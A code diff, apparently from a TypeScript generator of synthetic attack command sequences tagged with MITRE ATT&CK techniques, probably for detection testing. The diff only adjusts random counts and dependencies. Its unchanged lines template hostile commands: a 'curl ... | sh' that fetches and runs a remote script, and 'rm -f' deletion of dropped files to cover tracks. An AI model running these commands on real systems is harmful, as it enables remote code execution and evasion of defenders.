@@ -43,7 +43,7 @@ const byPython: Attack = {
                 'ls -l /proc/*/exe 2>/dev/null | grep -i memfd',
               ];
     return [
-      ...look(draw, draw.int(1, 3)),
+      ...look(draw, draw.int(2, 3)),
       ...maybe(draw, 0.3, `curl -s ${link(draw, place, '.sh')} | sh`),
       ...go,
       ...maybe(draw, 0.6, `rm -f ${path}`),
@@ -77,7 +77,7 @@ const byPerl: Attack = {
       ],
     ]);
     return [
-      ...look(draw, draw.int(1, 4)),
+      ...look(draw, draw.int(2, 4)),
       ...go,
       ...maybe(draw, 0.4, go[1] ?? go[0] ?? 'id'),
       ...maybe(draw, 0.5, `rm -f ${path}`),
@@ -92,7 +92,7 @@ const erased: Attack = {
   family: 'program-erased',
   techniques: ['T1070.004', 'T1036.005', 'T1105'],
   as: 'either',
-  needs: ['curl', 'python3'],
+  needs: ['python3'],
   lines: (draw, place) => {
     const path = workFile(draw, place, '');
     const seconds = draw.int(40, 150);
